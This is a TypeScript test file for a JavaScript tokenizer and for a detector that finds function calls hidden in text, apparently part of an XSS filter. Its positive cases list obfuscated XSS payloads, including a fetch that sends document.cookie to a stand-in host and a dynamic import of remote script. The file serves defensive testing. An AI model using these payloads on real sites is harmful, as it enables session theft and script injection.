import { describe, expect, it } from 'vitest'
import { callIn } from '../../../src/engine/html/calls.ts'
import { tokensOf } from '../../../src/engine/html/code.ts'
import { fastest } from '../../fastest.ts'

const shape = (text: string): string[] =>
  tokensOf(text).map(({ kind, text: read, made }) => `${kind} ${read}${made ? ' made' : ''}`)

describe('tokensOf', () => {
  it.each([
    ['\'a\' + "b"+`c`', ['string abc made']],
    [String.raw`'\x61\u0062\u{63}\144\'e'`, ["string abcd'e made"]],
    [String.raw`\u0061sk(1)`, ['name ask made', 'sign (', 'number 1', 'sign )']],
    ["';k", ["sign '", 'sign ;', 'name k']],
    ['a/b', ['name a', 'sign /', 'name b']],
    ['(/a/.x)', ['sign (', 'regex a', 'sign .', 'name x', 'sign )']],
    ['a/* b */c// d', ['name a', 'name c', 'name d']],
    ['`${a}`', ['sign `', 'name $', 'sign {', 'name a', 'sign }', 'sign `']],
    ['/* open', ['name open']],
  ] as const)('reads %s', (text, tokens) => {
    expect(shape(text)).toEqual(tokens)
  })

  it('says where each token stands', () => {
    const text = "a ['b' + 'c'](1)"
    expect(tokensOf(text).map(({ start, end }) => text.slice(start, end))).toEqual([
      'a', '[', "'b' + 'c'", ']', '(', '1', ')',
    ]) // prettier-ignore
  })
})

describe('callIn', () => {
  it.each([
    'alert(1)',
    'x";prompt`1`//',
    "';confirm?.(1)//",
    '(alert)(1)',
    '(0,alert)(1)',
    'alert.call(null,1)',
    '[1].find(confirm)',
    'Reflect.apply(x,null,[1])',
    '[].map.call`${alert}1`',
    "top['a'+'lert'](1)",
    'self["document"]["cookie"]',
    'window[/al/.source+/ert/.source](1)',
    "x['constructor']['constructor']('ask')()",
    '[].filter.constructor(`x`)()',
    'Function`x```',
    "('ale'+'rt(1)')()",
    'onerror=alert;throw 1',
    'document.cookie=1',
    '{cookie}=document',
    "fetch('//a.example/'+document.cookie)",
    "import('//a.example/x.js')",
    "import x from '//a.example/x.js'",
    'setTimeout(x,1)',
    '"-eval(name)-"',
    'a[b+c](d)',
    "(window)['x']",
    'top[8680439..toString(30)](1)',
  ])('finds one in %s', (text) => {
    const place = callIn(text)
    expect(place).toBeDefined()
    expect((place?.start ?? 9) < (place?.end ?? 0) && (place?.end ?? 99) <= text.length).toBe(true)
  })

  it.each([
    'red alert',
    'confirm (booking)',
    'confirm(ed)',
    'how+to+use+document.cookie+in+a+page',
    'document.getElementById+in+javascript',
    'prompt payment (net 30)',
    'top[name]=x',
    "women's tops, men's tops",
    'f(x)=a[i]',
    'constructor (java)',
    'import tax from the UK',
    'document.pdf',
    'TypeError: document.getElementById(...) is null',
    'see document (page 3)',
    'the function `map`',
    'this is [sic] fine',
    'open (9-17) every day',
    'filter[name]=a&sort[]=b',
    'a,b;c:d!',
  ])('finds none in %s', (text) => {
    expect(callIn(text)).toBeUndefined()
  })

  it('takes linear time', () => {
    for (const filler of [
      'a',
      '(',
      '[',
      "'",
      '`',
      '`${',
      '/',
      '\\',
      "'a'+",
      'alert(',
      'top[',
      'x.',
      'import ',
      '"a',
    ])
      for (const lead of ['', 'alert ', "'"]) {
        const text = (lead + filler.repeat(65_536)).slice(0, 65_536)
        expect(
          fastest(() => callIn(text), 3),
          `${lead} and ${filler}`,
        ).toBeLessThan(50)
      }
  })
})
